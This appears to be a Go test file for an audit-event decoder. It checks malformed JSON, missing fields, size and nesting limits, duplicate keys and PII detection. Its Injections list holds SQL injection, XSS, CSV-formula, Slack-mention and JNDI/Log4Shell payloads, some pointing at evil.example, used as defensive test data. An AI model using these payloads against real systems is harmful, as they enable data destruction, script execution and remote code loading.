package models

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

// Injections are hostile strings a producer (or an attacker who controls
// one) could put in any string field: SQL, HTML/JS, Slack mrkdwn, CSV
// formulas, control and bidi characters. The decoder must store them
// verbatim (they are data); the renderers escape them (see the bad-input
// tests of alert/slack and dashboards).
var Injections = []string{
	`'; DROP TABLE events; --`,
	`" OR 1=1 --`,
	`\'); SELECT * FROM system.users FORMAT JSON; --`,
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(1)`,
	`<!channel> <!here> <@U0ADMIN> <#C0SECRET>`,
	`<https://evil.example|click here>`,
	"*bold* _it_ ~strike~ `code` ```block```",
	`&amp; &lt;b&gt;`,
	`=HYPERLINK("https://evil.example","x")`,
	"line1\r\nline2\tTAB",
	"\u202egnp.exe \u200b\ufeff",
	`{{.Secret}} ${jndi:ldap://evil.example/a}`,
}

// stringFields are the access.v1 string fields (dotted paths) that take any
// text.
var stringFields = []string{"event_id", "tenant", "actor.id", "actor.role", "actor.vendor", "store", "resource.type",
	"resource.id", "subject_id", "purpose", "conversation.id", "conversation.subject_id", "tool", "client.country",
	"client.user_agent"}

// baseEvent is a valid access.v1 event as a JSON tree.
func baseEvent() map[string]any {
	return map[string]any{
		"event_id": "e1", "ts": "2026-11-28T11:59:00Z", "tenant": "retail",
		"actor":  map[string]any{"id": "bot-1", "type": "bot", "role": "assistant", "vendor": "acme"},
		"action": "read", "store": "crm",
		"resource":     map[string]any{"type": "customer_profile", "id": "r1"},
		"subject_id":   "c1",
		"records":      1,
		"bytes":        10,
		"fields":       []any{"email"},
		"purpose":      "support",
		"conversation": map[string]any{"id": "conv-1", "subject_id": "c1"},
		"tool":         "lookup",
		"result":       "allowed",
		"client":       map[string]any{"ip": "10.0.0.1", "country": "DE", "user_agent": "ua"},
	}
}

// with returns a copy of m with path set to v (v == del removes it).
func with(m map[string]any, path string, v any) map[string]any {
	out := map[string]any{}
	for k, x := range m {
		if sub, ok := x.(map[string]any); ok {
			x = with(sub, "", nil)
		}
		out[k] = x
	}
	if path == "" {
		return out
	}
	head, rest, nested := strings.Cut(path, ".")
	if nested {
		sub, _ := out[head].(map[string]any)
		out[head] = with(sub, rest, v)
		return out
	}
	if v == del {
		delete(out, head)
	} else {
		out[head] = v
	}
	return out
}

type deleted struct{}

var del any = deleted{}

func encode(t *testing.T, v any) []byte {
	t.Helper()
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false) // hostile bytes as they come, not \u003c
	if err := enc.Encode(v); err != nil {
		t.Fatal(err)
	}
	return bytes.TrimSpace(b.Bytes())
}

// get reads a dotted path of an event.
func get(e Event, path string) string {
	return map[string]string{"event_id": e.EventID, "tenant": e.Tenant, "actor.id": e.Actor.ID, "actor.role": e.Actor.Role,
		"actor.vendor": e.Actor.Vendor, "store": e.Store, "resource.type": e.Resource.Type, "resource.id": e.Resource.ID,
		"subject_id": e.SubjectID, "purpose": e.Purpose, "conversation.id": e.Conversation.ID,
		"conversation.subject_id": e.Conversation.SubjectID, "tool": e.Tool, "client.country": e.Client.Country,
		"client.user_agent": e.Client.UserAgent}[path]
}

type badCase struct {
	name  string
	msg   []byte
	code  Reason // "" = accepted
	field string
}

// accessMatrix is the bad-input matrix of access.v1: every reason code,
// every field's wrong type, missing required fields, bad enums, invalid
// UTF-8, NUL, size, nesting, time range, duplicate keys and injections.
func accessMatrix(t *testing.T) []badCase {
	b := baseEvent()
	var cs []badCase
	add := func(name string, m map[string]any, code Reason, field string) {
		cs = append(cs, badCase{name, encode(t, m), code, field})
	}
	raw := func(name, msg string, code Reason, field string) {
		cs = append(cs, badCase{name, []byte(msg), code, field})
	}
	add("valid", b, "", "")

	// Wrong JSON types, every field.
	for _, f := range append(stringFields, "ts", "actor.type", "action", "result") {
		add("number for "+f, with(b, f, 42), ReasonBadType, f)
		add("object for "+f, with(b, f, map[string]any{"x": 1}), ReasonBadType, f)
	}
	for _, f := range []string{"actor", "resource", "conversation", "client"} {
		add("string for "+f, with(b, f, "x"), ReasonBadType, f)
		add("array for "+f, with(b, f, []any{1}), ReasonBadType, f)
	}
	for _, f := range []string{"records", "bytes"} {
		add("string for "+f, with(b, f, "5"), ReasonBadType, f)
		add("bool for "+f, with(b, f, true), ReasonBadType, f)
		add("float for "+f, with(b, f, 1.5), ReasonBadValue, f)
		add("negative "+f, with(b, f, -1), ReasonBadValue, f)
		raw("overflowing "+f, strings.Replace(string(encode(t, b)), `"`+f+`":`, `"`+f+`":99999999999999999999999,"x":`, 1), ReasonBadValue, f)
		raw("exponent "+f, strings.Replace(string(encode(t, b)), `"`+f+`":`, `"`+f+`":1e3,"x":`, 1), ReasonBadValue, f)
	}
	add("string for fields", with(b, "fields", "email"), ReasonBadType, "fields")
	add("number in fields", with(b, "fields", []any{"email", 3}), ReasonBadType, "fields")
	raw("array message", `[`+string(encode(t, b))+`]`, ReasonBadJSON, "")
	raw("string message", `"hello"`, ReasonBadJSON, "")
	raw("null message", `null`, ReasonBadJSON, "")
	raw("empty message", ``, ReasonBadJSON, "")
	raw("truncated", string(encode(t, b))[:60], ReasonBadJSON, "")
	raw("trailing garbage", string(encode(t, b))+`}`, ReasonBadJSON, "")

	// Missing and blank required fields.
	for _, f := range []string{"event_id", "ts", "actor", "actor.id", "actor.type", "action", "store", "resource", "resource.type"} {
		add("missing "+f, with(b, f, del), ReasonMissingField, f)
	}
	for _, f := range []string{"event_id", "ts", "actor.id", "actor.type", "action", "store", "resource.type"} {
		add("empty "+f, with(b, f, ""), ReasonMissingField, f)
	}
	for _, f := range []string{"event_id", "actor.id", "store", "resource.type"} {
		add("blank "+f, with(b, f, " \t\n "), ReasonMissingField, f)
		add("null "+f, with(b, f, nil), ReasonMissingField, f)
	}

	// Enumerations: unknown values and case variants.
	for f, v := range map[string]string{"actor.type": "robot", "action": "steal", "result": "ok"} {
		add("bad enum "+f, with(b, f, v), ReasonBadEnum, f)
	}
	add("upper-case action", with(b, "action", "READ"), ReasonBadEnum, "action")
	add("padded actor.type", with(b, "actor.type", " bot"), ReasonBadEnum, "actor.type")
	add("injection in action", with(b, "action", Injections[0]), ReasonBadEnum, "action")

	// Malformed values.
	for _, v := range []string{"yesterday", "2026-11-28", "2026-11-28T11:59:00", "2026-11-28 11:59:00Z", "1764330000", "2026-13-01T00:00:00Z"} {
		add("bad ts "+v, with(b, "ts", v), ReasonBadValue, "ts")
	}
	for _, v := range []string{"999.1.1.1", "10.0.0.1/8", "localhost", Injections[0], "10.0.0.1\n"} {
		add("bad client.ip "+v, with(b, "client.ip", v), ReasonBadValue, "client.ip")
	}
	add("empty category", with(b, "fields", []any{"email", ""}), ReasonBadValue, "fields")

	// Time range.
	add("ts 25h ahead", with(b, "ts", "2026-11-29T13:00:00Z"), ReasonTSFuture, "ts")
	add("ts year 9999", with(b, "ts", "9999-12-31T23:59:59Z"), ReasonTSFuture, "ts")
	add("ts 91 days old", with(b, "ts", "2026-08-29T11:00:00Z"), ReasonTSTooOld, "ts")
	add("ts year 1", with(b, "ts", "0001-01-01T00:00:00Z"), ReasonTSTooOld, "ts")
	add("ts unix epoch", with(b, "ts", "1970-01-01T00:00:00Z"), ReasonTSTooOld, "ts")
	add("ts 23h ahead in another zone", with(b, "ts", "2026-11-29T12:00:00+01:00"), "", "")

	// Lengths and sizes.
	for _, f := range stringFields {
		limit := MaxStringLen
		switch f {
		case "event_id":
			limit = MaxEventIDLen
		case "client.user_agent":
			limit = MaxUserAgentLen
		}
		add("too long "+f, with(b, f, strings.Repeat("x", limit+1)), ReasonTooLong, f)
		add("at limit "+f, with(b, f, strings.Repeat("x", limit)), "", "")
	}
	many := make([]any, MaxFields+1)
	for i := range many {
		many[i] = "email"
	}
	add("65 fields", with(b, "fields", many), ReasonTooLong, "fields")
	add("65 KiB message", with(b, "notes", strings.Repeat("x", 65<<10)), ReasonTooLarge, "")
	add("10 MB message", with(b, "transcript", strings.Repeat("x", 10<<20)), ReasonTooLarge, "")

	// Nesting, in a field the decoder ignores and in one it reads.
	raw("33 levels deep", strings.Replace(string(encode(t, b)), `{`, `{"deep":`+strings.Repeat("[", 33)+strings.Repeat("]", 33)+",", 1), ReasonBadJSON, "")
	raw("100k levels deep", strings.Replace(string(encode(t, b)), `{`, `{"deep":`+strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+",", 1), ReasonTooLarge, "")
	raw("30k levels deep within the size limit", `{"d":`+strings.Repeat("[", 30000)+strings.Repeat("]", 30000)+`}`, ReasonBadJSON, "")
	raw("31 levels deep in an unknown field", strings.Replace(string(encode(t, b)), `{`, `{"deep":`+strings.Repeat("[", 30)+strings.Repeat("]", 30)+",", 1), "", "")
	raw("brackets inside strings do not count", strings.Replace(string(encode(t, b)), `{`, `{"s":"`+strings.Repeat("[{", 100)+`",`, 1), "", "")

	// Encoding: invalid UTF-8 and NUL in every string field.
	for _, f := range stringFields {
		m := string(encode(t, with(b, f, "MARK")))
		raw("invalid utf8 in "+f, strings.Replace(m, "MARK", "ab\xff\xfe", 1), ReasonBadUTF8, "")
		raw("overlong utf8 in "+f, strings.Replace(m, "MARK", "\xc0\xaf", 1), ReasonBadUTF8, "")
		raw("surrogate utf8 in "+f, strings.Replace(m, "MARK", "\xed\xa0\x80", 1), ReasonBadUTF8, "")
		raw("raw NUL in "+f, strings.Replace(m, "MARK", "a\x00b", 1), ReasonBadUTF8, "")
		raw("escaped NUL in "+f, strings.Replace(m, "MARK", `a\u0000b`, 1), ReasonBadUTF8, "")
	}
	raw("invalid utf8 in a key", strings.Replace(string(encode(t, b)), `{`, "{\"k\xff\":1,", 1), ReasonBadUTF8, "")
	raw("UTF-8 BOM", "\ufeff"+string(encode(t, b)), ReasonBadJSON, "")

	// Duplicate keys of known fields (ambiguity between parsers), at every
	// level, and case variants that encoding/json would fold onto them.
	dup := func(name, field, key, value string) {
		m := string(encode(t, b))
		parent, leaf := "", key
		if p, l, ok := strings.Cut(key, "."); ok {
			parent, leaf = p, l
		}
		if parent == "" {
			m = "{" + `"` + leaf + `":` + value + "," + m[1:]
		} else {
			m = strings.Replace(m, `"`+parent+`":{`, `"`+parent+`":{"`+leaf+`":`+value+",", 1)
		}
		raw(name, m, ReasonBadJSON, field)
	}
	for _, f := range append(stringFields, "ts", "actor.type", "action", "result", "client.ip") {
		dup("duplicate "+f, f, f, `"x"`)
	}
	dup("duplicate records", "records", "records", `5`)
	dup("duplicate fields", "fields", "fields", `["health"]`)
	dup("duplicate actor", "actor", "actor", `{"id":"other","type":"human"}`)
	m := string(encode(t, with(b, "schema", "access.v1")))
	raw("duplicate schema after", strings.Replace(m, `{`, `{"schema":"consent.v1",`, 1), ReasonBadJSON, "schema")
	dup("upper-case STORE", "store", "STORE", `"payments"`)
	dup("mixed-case Actor.ID", "actor.id", "actor.ID", `"other"`)
	dup("long s folds to s", "store", "ſtore", `"payments"`)
	dup("long s in ts", "ts", "tſ", `"2026-11-28T11:00:00Z"`)
	raw("only an upper-case key", strings.Replace(string(encode(t, b)), `"store"`, `"Store"`, 1), ReasonBadJSON, "store")
	raw("escaped key is the same key", strings.Replace(string(encode(t, b)), `"store"`, `"st\u006fre"`, 1), "", "")
	raw("escaped duplicate key", strings.Replace(string(encode(t, b)), `"store":"crm"`, `"store":"crm","st\u006fre":"payments"`, 1), ReasonBadJSON, "store")
	raw("duplicate unknown keys are ignored", strings.Replace(string(encode(t, b)), `{`, `{"x":1,"x":2,"note":{"a":1,"a":2},`, 1), "", "")
	raw("duplicate keys inside an unknown object", strings.Replace(string(encode(t, b)), `{`, `{"extra":{"store":"a","store":"b"},`, 1), "", "")

	// Schema.
	add("wrong schema", with(b, "schema", "access.v9"), ReasonBadSchema, "schema")
	add("consent schema on the access decoder", with(b, "schema", SchemaConsent), ReasonBadSchema, "schema")
	add("explicit schema", with(b, "schema", SchemaAccess), "", "")

	// Hostile strings in every string field are data: accepted verbatim.
	for _, f := range stringFields {
		for i, inj := range Injections {
			if f == "event_id" && len(inj) > MaxEventIDLen {
				continue
			}
			add("injection "+f+" #"+string(rune('a'+i)), with(b, f, inj), "", "")
		}
	}
	for i, inj := range Injections {
		add("injection in fields #"+string(rune('a'+i)), with(b, "fields", []any{inj}), "", "")
	}

	// Payload PII: events carry data categories, never data. Each kind in
	// a free field is rejected, naming the field; the near-misses are ids.
	for _, pc := range PIICases {
		add("pii "+pc.Name+" in "+pc.Field, with(b, pc.Field, pc.Value), ReasonPIIInPayload, pc.Field)
	}
	add("pii email in fields[1]", with(b, "fields", []any{"email", "jane.doe@example.com"}), ReasonPIIInPayload, "fields[1]")
	raw("pii escaped email in tool", strings.Replace(string(encode(t, b)), `"tool":"lookup"`, `"tool":"jane\u0040example.com"`, 1), ReasonPIIInPayload, "tool")
	for _, f := range []string{"subject_id", "conversation.subject_id", "actor.id"} {
		add("email as id in "+f, with(b, f, "jane.doe@example.com"), "", "")
	}
	for _, nm := range PIINearMisses {
		add("near miss "+nm.Name, with(b, "resource.id", nm.Value), "", "")
	}

	// destination: only on share and export, checked like every free field.
	sh := with(b, "action", "share")
	add("destination on share", with(sh, "destination", "acme-analytics.example"), "", "")
	add("destination on export", with(with(b, "action", "export"), "destination", "Acme Analytics Ltd"), "", "")
	add("share without destination", sh, "", "")
	for _, act := range []string{"read", "search", "list", "update", "delete", "login"} {
		add("destination on "+act, with(with(b, "action", act), "destination", "acme.example"), ReasonBadValue, "destination")
	}
	add("blank destination", with(sh, "destination", " \t "), ReasonBadValue, "destination")
	add("too long destination", with(sh, "destination", strings.Repeat("x", MaxStringLen+1)), ReasonTooLong, "destination")
	add("at limit destination", with(sh, "destination", strings.Repeat("x", MaxStringLen)), "", "")
	add("pii email in destination", with(sh, "destination", "partner.team@vendor.example.com"), ReasonPIIInPayload, "destination")
	add("pii phone in destination", with(sh, "destination", "+44 20 7946 0958"), ReasonPIIInPayload, "destination")
	for i, inj := range Injections {
		add("injection destination #"+string(rune('a'+i)), with(sh, "destination", inj), "", "")
	}
	dm := string(encode(t, with(sh, "destination", "a.example")))
	raw("duplicate destination", strings.Replace(dm, `{`, `{"destination":"b.example",`, 1), ReasonBadJSON, "destination")
	raw("upper-case Destination", strings.Replace(dm, `"destination"`, `"Destination"`, 1), ReasonBadJSON, "destination")
	raw("invalid utf8 in destination", strings.Replace(dm, "a.example", "a\xff", 1), ReasonBadUTF8, "")
	return cs
}

func TestBadInputMatrixAccess(t *testing.T) {
	cs := accessMatrix(t)
	reasons := map[Reason]bool{}
	for _, tc := range cs {
		t.Run(tc.name, func(t *testing.T) {
			e, err := DecodeAccess(tc.msg, now, Limits{})
			if tc.code == "" {
				if err != nil {
					t.Fatalf("rejected: %v", err)
				}
				return
			}
			var ve *ValidationError
			ok := errors.As(err, &ve)
			if !ok {
				t.Fatalf("got %v (%+v), want a *ValidationError %s %q", err, e, tc.code, tc.field)
			}
			reasons[ve.Code] = true
			if ve.Code != tc.code || ve.Field != tc.field {
				t.Fatalf("got %s %q (%v), want %s %q", ve.Code, ve.Field, ve, tc.code, tc.field)
			}
		})
	}
	for _, r := range Reasons {
		if !reasons[r] {
			t.Errorf("the matrix never produced reason %s", r)
		}
	}
}

// TestInjectionsStoredVerbatim: hostile strings are accepted and come out
// of the decoder byte for byte (the stores and renderers must cope).
func TestInjectionsStoredVerbatim(t *testing.T) {
	for _, f := range stringFields {
		for _, inj := range Injections {
			if f == "event_id" && len(inj) > MaxEventIDLen {
				continue
			}
			e, err := DecodeAccess(encode(t, with(baseEvent(), f, inj)), now, Limits{})
			if err != nil {
				t.Fatalf("%s = %q rejected: %v", f, inj, err)
			}
			if got := get(e, f); got != inj {
				t.Fatalf("%s: got %q, want %q", f, got, inj)
			}
		}
	}
}

func TestBadInputMatrixConsent(t *testing.T) {
	base := map[string]any{"schema": "consent.v1", "event_id": "cs-1", "ts": "2026-11-28T10:00:00Z", "tenant": "retail",
		"subject_id": "c1", "purpose": "marketing", "granted": false}
	tests := []struct {
		name  string
		msg   []byte
		code  Reason
		field string
	}{
		{"valid", encode(t, base), "", ""},
		{"granted string", encode(t, with(base, "granted", "false")), ReasonBadType, "granted"},
		{"granted number", encode(t, with(base, "granted", 0)), ReasonBadType, "granted"},
		{"subject number", encode(t, with(base, "subject_id", 7)), ReasonBadType, "subject_id"},
		{"missing granted", encode(t, with(base, "granted", del)), ReasonMissingField, "granted"},
		{"missing subject", encode(t, with(base, "subject_id", del)), ReasonMissingField, "subject_id"},
		{"missing purpose", encode(t, with(base, "purpose", del)), ReasonMissingField, "purpose"},
		{"missing ts", encode(t, with(base, "ts", del)), ReasonMissingField, "ts"},
		{"future ts", encode(t, with(base, "ts", "2027-01-01T00:00:00Z")), ReasonTSFuture, "ts"},
		{"old ts", encode(t, with(base, "ts", "2000-01-01T00:00:00Z")), ReasonTSTooOld, "ts"},
		{"long subject", encode(t, with(base, "subject_id", strings.Repeat("c", MaxStringLen+1))), ReasonTooLong, "subject_id"},
		{"access schema", encode(t, with(base, "schema", "access.v1")), ReasonBadSchema, "schema"},
		{"duplicate granted", []byte(strings.Replace(string(encode(t, base)), `{`, `{"granted":true,`, 1)), ReasonBadJSON, "granted"},
		{"case-folded Granted", []byte(strings.Replace(string(encode(t, base)), `"granted"`, `"Granted"`, 1)), ReasonBadJSON, "granted"},
		{"NUL in purpose", encode(t, with(base, "purpose", "mark\x00eting")), ReasonBadUTF8, ""},
		{"10 MB", encode(t, with(base, "pad", strings.Repeat("x", 10<<20))), ReasonTooLarge, ""},
		{"injection subject", encode(t, with(base, "subject_id", Injections[0])), "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := DecodeConsent(tc.msg, now, Limits{})
			if tc.code == "" {
				if err != nil {
					t.Fatalf("rejected: %v", err)
				}
				return
			}
			var ve *ValidationError
			ok := errors.As(err, &ve)
			if !ok || ve.Code != tc.code || ve.Field != tc.field {
				t.Fatalf("got %v, want %s %q", err, tc.code, tc.field)
			}
		})
	}
}
